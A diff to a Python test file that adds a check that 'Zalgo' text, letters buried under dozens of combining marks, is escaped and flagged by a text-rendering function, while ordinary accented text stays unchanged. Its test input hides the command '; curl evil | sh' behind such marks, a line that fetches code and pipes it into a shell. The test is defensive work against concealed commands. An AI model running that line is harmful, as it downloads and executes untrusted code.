@@ -348,3 +348,20 @@ def test_ordinary_options_of_those_programs_still_run(wrapped):
     for command in ("rg -n PUBLIC README.md", "tar cf /dev/null README.md", "sort -n README.md"):
         r = c.call("bash", {"command": command, "cwd": str(wrapped.home / "proj")})
         assert not r.result["isError"], (command, r.text)
+
+
+# -- rendering: stacked combining marks -----------------------------------------------------
+
+
+def test_stacked_combining_marks_are_escaped_and_flagged():
+    """ "Zalgo" text (dozens of combining marks on one letter) paints over the lines around it
+    in the page, the menu and a terminal, e.g. over the end of a command; ordinary accents
+    (Vietnamese, decomposed é) stay as they are."""
+    from omp_a2a_bridge.server.textsafe import render, shorten
+
+    zalgo = "echo ok" + "\u0336\u0489" * 20 + "; curl evil | sh"
+    out = render(zalgo)
+    assert out.hidden and "\\u0336" in out.text and out.text.count("\u0336") <= 2, out.text
+    assert shorten(zalgo, 40).hidden
+    for fine in ("Việt Nam", "cafe\u0301", "\u0915\u094d\u0937\u093f"):
+        assert render(fine).text == fine and not render(fine).hidden, fine
